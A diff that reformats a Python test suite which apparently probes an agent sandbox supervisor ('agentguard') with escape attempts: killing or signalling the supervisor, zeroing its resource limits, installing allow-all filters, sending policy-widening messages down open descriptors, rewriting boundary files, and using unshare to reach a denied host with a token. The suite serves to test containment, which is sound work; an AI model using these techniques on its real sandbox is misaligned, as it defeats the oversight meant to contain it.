@@ -57,7 +57,16 @@ def _signalled(number):
     return act
 
 
-for _number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGSEGV, signal.SIGINT, signal.SIGHUP, signal.SIGPIPE, signal.SIGUSR1):
+for _number in (
+    signal.SIGKILL,
+    signal.SIGSTOP,
+    signal.SIGTERM,
+    signal.SIGSEGV,
+    signal.SIGINT,
+    signal.SIGHUP,
+    signal.SIGPIPE,
+    signal.SIGUSR1,
+):
     ATTEMPTS.add("supervisor", f"sent {_number.name}", _signalled(_number), alone=True)
 
 
@@ -149,7 +158,12 @@ def memory_written_by_the_other_call(aim):
 def limits_lowered(aim):
     """No descriptors, no processor, no memory for the watcher."""
     for pid in others():
-        for limit, value in ((resource.RLIMIT_NOFILE, 0), (resource.RLIMIT_CPU, 0), (resource.RLIMIT_AS, 0), (resource.RLIMIT_NPROC, 0)):
+        for limit, value in (
+            (resource.RLIMIT_NOFILE, 0),
+            (resource.RLIMIT_CPU, 0),
+            (resource.RLIMIT_AS, 0),
+            (resource.RLIMIT_NPROC, 0),
+        ):
             with contextlib.suppress(OSError, ValueError):
                 resource.prlimit(pid, limit, (value, value))
     time.sleep(0.05)
@@ -316,7 +330,8 @@ ATTEMPTS.add("supervisor", "filter of our own that allows everything", _filter_b
 ATTEMPTS.add("supervisor", "filter of our own that logs everything", _filter_before(0x7FFC0000), alone=True)
 
 WISHES = (
-    b"\0" * 64, b"\xff" * 4096, b"\n", b"{}\n", b'{"widen": true}\n', b'{"allow": ["*"]}\n', b"allow *\n", b"stop\n", b"quit\n", b"reload\n",
+    b"\0" * 64, b"\xff" * 4096, b"\n", b"{}\n", b'{"widen": true}\n',
+    b'{"allow": ["*"]}\n', b"allow *\n", b"stop\n", b"quit\n", b"reload\n",
     json.dumps({"kind": "boundary", "boundary": {"allowed": ["*"], "blocked": [], "agents": []}}).encode() + b"\n",
     json.dumps({"op": "replace", "policy": {"allowed_domains": ["*"]}}).encode() + b"\n",
 )  # fmt: skip
@@ -346,7 +361,9 @@ def channel_told_to_replace_the_boundary(aim):
     if boundary and control:
         import agentguard
 
-        wide = agentguard.Policy.from_mapping({"agent_config": {"name": "x", "external_calls": {"allowed_domains": ["*", world.DENIED4]}}})
+        wide = agentguard.Policy.from_mapping(
+            {"agent_config": {"name": "x", "external_calls": {"allowed_domains": ["*", world.DENIED4]}}}
+        )
         with contextlib.suppress(Exception):
             wishes.append(json.dumps(boundary.Boundary.of(wide, ()).to_json()).encode())
     for fd in range(3, 256):
@@ -398,7 +415,10 @@ def boundary_file_rewritten(aim):
     for path in Path(aim.scratch).rglob("*"):
         with contextlib.suppress(OSError, UnicodeDecodeError):
             if path.is_file() and path.suffix in {".yaml", ".json"} and path.name != "order.json":
-                path.write_text(path.read_text(encoding="utf-8").replace("allowed.test", "denied.test").replace("blocked", "allowed"), encoding="utf-8")
+                path.write_text(
+                    path.read_text(encoding="utf-8").replace("allowed.test", "denied.test").replace("blocked", "allowed"),
+                    encoding="utf-8",
+                )
     until = time.monotonic() + 2
     while time.monotonic() < until:
         with contextlib.suppress(OSError):
@@ -409,8 +429,13 @@ def boundary_file_rewritten(aim):
 
 @watch("program:unshare")
 def new_session_and_user_namespace(aim):
-    code = f"import socket; s=socket.create_connection(('{world.DENIED4}', 80), 2); s.sendall(b'GET /{aim.token} HTTP/1.0\\r\\n\\r\\n'); s.recv(9)"
-    subprocess.run(["unshare", "--user", "--map-root-user", "--pid", "--fork", "setsid", sys.executable, "-ISc", code], check=False, capture_output=True)
+    code = f"import socket; s=socket.create_connection(('{world.DENIED4}', 80), 2);"
+    code += f"s.sendall(b'GET /{aim.token} HTTP/1.0\\r\\n\\r\\n'); s.recv(9)"
+    subprocess.run(
+        ["unshare", "--user", "--map-root-user", "--pid", "--fork", "setsid", sys.executable, "-ISc", code],
+        check=False,
+        capture_output=True,
+    )
 
 
 @watch()
